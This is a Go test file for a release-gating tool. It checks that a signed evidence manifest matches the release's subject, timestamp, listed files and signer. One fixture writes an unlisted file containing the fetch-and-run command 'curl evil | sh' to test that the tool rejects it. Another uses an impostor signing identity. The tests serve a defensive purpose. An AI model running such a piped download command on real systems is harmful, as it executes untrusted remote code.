package engine_test

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cicd-hub/hubgate/adapters/cli"
	"github.com/cicd-hub/hubgate/engine/trust/trusttest"
	"github.com/cicd-hub/hubgate/policy"
)

// bundleRelease is a release whose evidence lives in one signed evidence
// directory: evidence/SHA256SUMS, listed by evidence/evidence-manifest.json.
type bundleRelease struct {
	*signingRelease
	ev, sums, manifest string
	sumsBody           []byte
}

const bundleRegistry = `repos: "acme/app": {require: ["checksums", "evidence_bundle"]}`

func newBundleRelease(t *testing.T, registry string) *bundleRelease {
	t.Helper()
	r := &bundleRelease{signingRelease: newSigningRelease(t, registry)}
	r.ev = filepath.Join(r.dir, "evidence")
	r.sumsBody = []byte(hexSHA(r.art) + "  app.tar.gz\n")
	r.sums = r.write(t, "evidence/SHA256SUMS", r.sumsBody)
	r.manifest = filepath.Join(r.ev, "evidence-manifest.json")
	return r
}

// bundleFile is one files[] entry.
type bundleFile struct {
	Path   string `json:"path"`
	SHA256 string `json:"sha256"`
	Size   int    `json:"size"`
}

// sign writes the manifest, in the shape the hub's sign_evidence_bundle.sh
// writes (with subjects), and a sigstore bundle over it minted by
// VirtualSigstore for the release workflow.
func (r *bundleRelease) sign(t *testing.T, subjects []string, timestamp string, files []bundleFile) {
	t.Helper()
	subs := []map[string]any{}
	for _, d := range subjects {
		subs = append(subs, map[string]any{"name": "app.tar.gz", "digest": map[string]string{"sha256": d}})
	}
	if files == nil {
		files = []bundleFile{}
	}
	m, err := json.MarshalIndent(map[string]any{"version": "1.0", "timestamp": timestamp, "subjects": subs, "files": files}, "", "  ")
	require.NoError(t, err)
	r.write(t, "evidence/evidence-manifest.json", m)
	r.write(t, "evidence/evidence-manifest.json.sigstore.json", r.ss.MessageBundle(t, sigSAN, sigIssuer, m, trusttest.BundleOptions{}))
}

func (r *bundleRelease) sumsEntry() bundleFile {
	return bundleFile{Path: "SHA256SUMS", SHA256: hexSHA(r.sumsBody), Size: len(r.sumsBody)}
}

// evalBundle runs eval with the release's subject, its checksums (checksums
// FILE, default the listed evidence/SHA256SUMS) and the evidence bundle.
func (r *bundleRelease) evalBundle(t *testing.T, checksums string, args ...string) (int, *policy.Decision) {
	t.Helper()
	if checksums == "" {
		checksums = r.sums
	}
	base := []string{"eval", "--registry", filepath.Join(r.dir, "registry.cue"), "--repo", "acme/app",
		"--subject", r.app, "--checksums", checksums, "--trusted-root", r.root, "--now", evalNow.Format(time.RFC3339), "-o", "json",
		"--evidence-manifest", r.manifest, "--evidence-dir", r.ev}
	var out, errb bytes.Buffer
	code := cli.Main(context.Background(), append(base, args...), strings.NewReader(""), &out, &errb)
	require.NotEqual(t, 2, code, "stderr: %s", errb.String())
	var d policy.Decision
	require.NoError(t, json.Unmarshal(out.Bytes(), &d), "stdout: %s\nstderr: %s", out.String(), errb.String())
	return code, &d
}

// TestEvidenceBundleBinding proves the signed manifest is bound to this
// release: its subjects, its time, and every evidence file eval reads.
func TestEvidenceBundleBinding(t *testing.T) {
	ts := evalNow.Add(-24 * time.Hour).Format(time.RFC3339)

	t.Run("signed manifest naming this release and every file is allowed", func(t *testing.T) {
		r := newBundleRelease(t, bundleRegistry)
		r.sign(t, []string{hexSHA(r.art)}, ts, []bundleFile{r.sumsEntry()})
		code, d := r.evalBundle(t, "")
		require.Equal(t, 0, code, "%v", ruleIDs(d))
		assert.True(t, d.Allowed)
	})
	t.Run("manifest signed for another subject", func(t *testing.T) {
		r := newBundleRelease(t, bundleRegistry)
		other := hexSHA([]byte("an earlier release"))
		r.sign(t, []string{other}, ts, []bundleFile{r.sumsEntry()})
		code, d := r.evalBundle(t, "")
		require.Equal(t, 1, code)
		var paths []string
		for _, f := range d.Findings {
			if f.Rule == "evidence_bundle.subjects" {
				paths = append(paths, f.Path)
				assert.Equal(t, r.manifest, f.Evidence)
			}
		}
		assert.ElementsMatch(t, []string{"subjects", "subjects[0].digest"}, paths, "%v", ruleIDs(d))
		f := findRule(d, "evidence_bundle.subjects")
		require.NotNil(t, f)
		assert.Contains(t, f.Message, "app.tar.gz")
	})
	t.Run("manifest without subjects (the producer's old shape)", func(t *testing.T) {
		r := newBundleRelease(t, bundleRegistry)
		r.sign(t, nil, ts, []bundleFile{r.sumsEntry()})
		code, d := r.evalBundle(t, "")
		require.Equal(t, 1, code)
		f := findRule(d, "evidence_bundle.subjects")
		require.NotNil(t, f, "%v", ruleIDs(d))
		assert.Equal(t, "none", f.Actual)
		assert.Equal(t, "sha256:"+hexSHA(r.art), f.Expected)
	})
	for _, tc := range []struct{ name, ts, rule, registry string }{
		{"timestamp too old", "2001-01-01T00:00:00Z", "evidence_bundle.max_age", bundleRegistry},
		{"timestamp not a time", "not a time", "evidence_bundle.timestamp", bundleRegistry},
		{"timestamp in the future", evalNow.Add(time.Second).Format(time.RFC3339), "evidence_bundle.timestamp", bundleRegistry},
		{"timestamp older than the registry's max_age", ts, "evidence_bundle.max_age",
			`repos: "acme/app": {require: ["checksums", "evidence_bundle"], evidence_bundle: max_age: "12h"}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newBundleRelease(t, tc.registry)
			r.sign(t, []string{hexSHA(r.art)}, tc.ts, []bundleFile{r.sumsEntry()})
			code, d := r.evalBundle(t, "")
			require.Equal(t, 1, code)
			f := findRule(d, tc.rule)
			require.NotNil(t, f, "%v", ruleIDs(d))
			assert.Equal(t, r.manifest, f.Evidence)
			assert.Equal(t, "timestamp", f.Path)
			assert.Equal(t, tc.ts, f.Actual)
		})
	}
	t.Run("empty files over an empty directory", func(t *testing.T) {
		r := newBundleRelease(t, bundleRegistry)
		require.NoError(t, os.Remove(r.sums))
		r.sign(t, []string{hexSHA(r.art)}, ts, nil)
		code, d := r.evalBundle(t, filepath.Join(r.dir, "SHA256SUMS"))
		require.Equal(t, 1, code)
		assert.False(t, d.Allowed)
		f := findRule(d, "evidence_bundle.evidence")
		require.NotNil(t, f, "%v", ruleIDs(d))
		assert.Equal(t, policy.OutcomeError, f.Outcome)
		assert.Contains(t, f.Message, "files: empty")
	})
	t.Run("evidence file outside the directory", func(t *testing.T) {
		r := newBundleRelease(t, bundleRegistry)
		r.sign(t, []string{hexSHA(r.art)}, ts, []bundleFile{r.sumsEntry()})
		outside := filepath.Join(r.dir, "SHA256SUMS")
		code, d := r.evalBundle(t, outside)
		require.Equal(t, 1, code)
		f := findRule(d, "evidence_bundle.inputs")
		require.NotNil(t, f, "%v", ruleIDs(d))
		assert.Equal(t, outside, f.Target)
		assert.Equal(t, "files", f.Path)
	})
	t.Run("evidence file in the directory but not listed", func(t *testing.T) {
		for _, required := range []bool{true, false} {
			reg := bundleRegistry
			if !required {
				reg = `repos: "acme/app": {require: ["checksums"]}`
			}
			r := newBundleRelease(t, reg)
			r.sign(t, []string{hexSHA(r.art)}, ts, []bundleFile{r.sumsEntry()})
			refs := `{"ref":"ghcr.io/acme/app@sha256:` + hexSHA(r.art) + `","digest":"sha256:` + hexSHA(r.art) + `","referrers":[]}`
			rp := r.write(t, "evidence/referrers.json", []byte(refs))
			_, d := r.evalBundle(t, "", "--referrers", rp)
			f := findRule(d, "evidence_bundle.inputs")
			if !required {
				assert.Nil(t, f, "evidence_bundle is not required: %v", ruleIDs(d))
				continue
			}
			require.NotNil(t, f, "%v", ruleIDs(d))
			assert.Equal(t, rp, f.Target)
			assert.Equal(t, "not listed", f.Actual)
			assert.Contains(t, f.Message, "referrers evidence")
		}
	})
	t.Run("evidence file listed with another digest", func(t *testing.T) {
		r := newBundleRelease(t, bundleRegistry)
		e := r.sumsEntry()
		e.SHA256 = hexSHA([]byte("what was signed"))
		r.sign(t, []string{hexSHA(r.art)}, ts, []bundleFile{e})
		code, d := r.evalBundle(t, "")
		require.Equal(t, 1, code)
		f := findRule(d, "evidence_bundle.inputs")
		require.NotNil(t, f, "%v", ruleIDs(d))
		assert.Equal(t, "files[0].sha256", f.Path)
		assert.Equal(t, e.SHA256, f.Expected)
		assert.Equal(t, hexSHA(r.sumsBody), f.Actual)
		assert.Equal(t, r.manifest, f.Evidence)
	})
}

// TestEvidenceBundleEndToEnd checks the directory against the signed
// manifest, and the manifest's signer.
func TestEvidenceBundleEndToEnd(t *testing.T) {
	r := newBundleRelease(t, bundleRegistry)
	subjects := []string{hexSHA(r.art)}
	r.sign(t, subjects, evalNow.Add(-24*time.Hour).Format(time.RFC3339), []bundleFile{r.sumsEntry()})
	m, err := os.ReadFile(r.manifest)
	require.NoError(t, err)

	t.Run("signed and complete", func(t *testing.T) {
		code, d := r.evalBundle(t, "")
		require.Equal(t, 0, code, "%v", ruleIDs(d))
	})
	t.Run("unlisted file", func(t *testing.T) {
		extra := r.write(t, "evidence/extra.sh", []byte("curl evil | sh"))
		defer os.Remove(extra)
		code, d := r.evalBundle(t, "")
		require.Equal(t, 1, code)
		f := findRule(d, "evidence_bundle.unlisted")
		require.NotNil(t, f, "%v", ruleIDs(d))
		assert.Equal(t, "extra.sh", f.Actual)
	})
	t.Run("changed file", func(t *testing.T) {
		r.write(t, "evidence/SHA256SUMS", []byte(hexSHA(r.art)+"  app.tar.gz\n\n"))
		defer r.write(t, "evidence/SHA256SUMS", r.sumsBody)
		code, d := r.evalBundle(t, "")
		require.Equal(t, 1, code)
		require.NotNil(t, findRule(d, "evidence_bundle.files"), "%v", ruleIDs(d))
	})
	t.Run("signed by another identity", func(t *testing.T) {
		r.write(t, "evidence/evidence-manifest.json.sigstore.json", r.ss.MessageBundle(t, "https://github.com/evil/x/.github/workflows/a.yml@refs/heads/main", sigIssuer, m, trusttest.BundleOptions{}))
		code, d := r.evalBundle(t, "")
		require.Equal(t, 1, code)
		require.NotNil(t, findRule(d, "evidence_bundle.signature"), "%v", ruleIDs(d))
	})
	t.Run("unsigned", func(t *testing.T) {
		require.NoError(t, os.Remove(r.manifest+".sigstore.json"))
		code, d := r.evalBundle(t, "")
		require.Equal(t, 1, code)
		f := findRule(d, "evidence_bundle.signature")
		require.NotNil(t, f, "%v", ruleIDs(d))
		assert.Contains(t, f.Actual, "no sigstore bundle")
	})
}
